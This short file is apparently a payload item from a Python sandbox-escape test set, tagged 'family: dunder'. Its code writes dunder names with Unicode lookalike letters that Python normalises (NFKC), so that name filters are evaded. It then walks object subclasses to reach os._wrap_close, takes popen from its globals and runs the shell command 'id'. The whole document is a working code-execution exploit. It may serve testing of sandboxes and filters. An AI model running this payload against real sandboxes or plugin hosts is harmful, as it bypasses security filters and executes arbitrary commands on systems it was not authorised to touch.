# family: dunder
# kind: value
# tries: identifiers that become dunders only when Python normalises them (NFKC)
# success looks like: output of id (uid=)
def job(plugin):
  for child in ().__𝐜lass__.__ᵇase__.__ſubclasses__():
    if child.__name__ == '_wrap_close':
      return child.__init__.__𝒈lobals__['popen']('id').read()
